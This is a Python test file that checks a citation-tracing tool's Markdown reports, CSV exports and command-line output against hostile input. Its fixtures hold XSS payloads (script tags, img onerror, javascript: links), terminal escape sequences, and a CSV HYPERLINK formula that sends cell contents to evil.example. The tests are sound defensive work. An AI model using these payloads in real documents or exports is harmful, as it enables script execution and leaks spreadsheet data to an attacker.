"""Exports and terminal output that neither run nor mislead (issue 19, item 5).

A PDF's title, notes and text, a reviewer's comment and a cited URL carry what an attacker
would put there: raw HTML and script links (Markdown report), a CR or a tab before a formula
(CSV), ESC / BEL / CSI sequences (terminal output of ``trace`` and ``check-links``).
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from click.testing import CliRunner
from linkserver import LinkServer
from markdown_it import MarkdownIt
from test_linkcheck import make_document

from citetrace.annotations import api
from citetrace.annotations.exchange import export_csv, markdown_report
from citetrace.db.store import open_db, write_document
from citetrace.plugins.cli.terminal import printable
from citetrace.plugins.cli import cli

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m"  # set the title + BEL, clear screen, C1 CSI
CONTROLS = ("\x1b", "\x07", "\x9b")
FORMULA_AFTER_CR = 'Fine.\r=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def hostile(tmp_path):
    """A document whose title, note and claim carry HTML and terminal escapes, annotated."""
    cites = [{"url": f"https://example.org/report{ESCAPES}", "title": f"Source {SCRIPT}",
              "text": f"Ministry, {IMG} [x](javascript:alert(3)) {ESCAPES} report."}]
    doc = make_document(cites, claims=[(f"Tariffs rose 40% {SCRIPT}{ESCAPES}.", [0])])
    doc = replace(doc, title=f"Water {SCRIPT} report{ESCAPES}")
    path = tmp_path / "hostile.db"
    db = open_db(str(path))
    write_document(db, doc, "test")
    db.conn.close()
    conn = open_db(str(path))
    claim = conn.execute("select id from claims").fetchone()[0]
    api.add(conn, api.resolve_target(conn, claim_id=claim), author="ana", tags=["disputed"],
            body=f"**Check** {SCRIPT} [link](javascript:alert(4))\n{FORMULA_AFTER_CR}")
    api.add(conn, api.resolve_target(conn, claim_id=claim), author="ben",
            body="\t=1+1 (a tab first)")
    yield path, conn
    conn.close()


def test_markdown_report_runs_nothing_when_rendered(hostile):
    _, conn = hostile
    report = markdown_report(conn, 1)
    rendered = MarkdownIt("commonmark").render(report)  # raw HTML on, as by default
    for tag in ("<script", "<img"):
        assert tag not in rendered and tag not in report
    assert 'href="javascript' not in rendered
    assert not re.search(r"(?<!\\)\]\(javascript:", report)  # the script link is unlinked
    assert "<strong>Check</strong>" in rendered  # the reviewer's Markdown still works
    # What the PDF says is still readable, as text.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
    assert "# Review: Water &lt;script&gt;alert(1)&lt;/script&gt; report" in report
    assert "\\[x\\](javascript:alert(3))" in report  # a link in a note is not a link


def test_csv_cells_cannot_start_a_formula(hostile):
    _, conn = hostile
    text = export_csv(conn)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 3  # header + 2: the CR, quoted, did not start a row "=HYPERLINK(..."
    by_author = {r["author"]: r for r in csv.DictReader(io.StringIO(text))}
    assert by_author["ana"]["body"].endswith(FORMULA_AFTER_CR)
    assert '"**Check**' in text  # quoted
    assert by_author["ben"]["body"] == "'\t=1+1 (a tab first)"


def test_trace_output_strips_control_characters(hostile):
    path, _ = hostile
    res = CliRunner().invoke(cli, ["trace", "--db", str(path)])
    assert res.exit_code == 0, res.output
    for ch in CONTROLS:
        assert ch not in res.output, repr(ch)
    assert "Water <script>alert(1)</script> report]0;owned[2J31m" in res.output
    assert "Tariffs rose 40%" in res.output and "https://example.org/report" in res.output


def test_check_links_output_strips_control_characters(tmp_path):
    with LinkServer(1) as server:
        url = server.url(f"/missing{ESCAPES}")
        path = tmp_path / "links.db"
        db = open_db(str(path))
        write_document(db, make_document([{"url": url}]), "test")
        db.conn.close()
        runner = CliRunner()
        dry = runner.invoke(cli, ["check-links", "--db", str(path), "--dry-run"])
        res = runner.invoke(cli, ["check-links", "--db", str(path), "--allow-private",
                                  "--no-archive", "--delay", "0", "--timeout", "5"])
    for out in (dry.output, res.output):
        assert all(ch not in out for ch in CONTROLS), repr(out)
    assert f"check {printable(url)}" in dry.output
    assert f"unreachable invalid   {printable(url)}" in res.output  # httpx refuses it


def test_annotate_list_and_show_strip_control_characters(hostile):
    path, conn = hostile
    api.add(conn, api.resolve_target(conn, claim_id=1), author=f"eve{ESCAPES}",
            body=f"Body {ESCAPES}\nline two")
    runner = CliRunner()
    outputs = [runner.invoke(cli, ["annotate", "list", "--db", str(path)]).output]
    for ident in ("1", "3"):
        res = runner.invoke(cli, ["annotate", "show", "--db", str(path), ident])
        assert res.exit_code == 0, res.output
        outputs.append(res.output)
    for out in outputs:
        assert all(ch not in out for ch in CONTROLS), repr(out)
    assert "Tariffs rose 40%" in outputs[0] and "eve]0;owned" in outputs[0]
    assert "  body      Body ]0;owned[2J31m\nline two" in outputs[2]


def test_printable_keeps_text_tabs_and_newlines():
    assert printable("a\tb\nc\x1b[1md\x7f\x85é—") == "a\tb\nc[1mdé—"
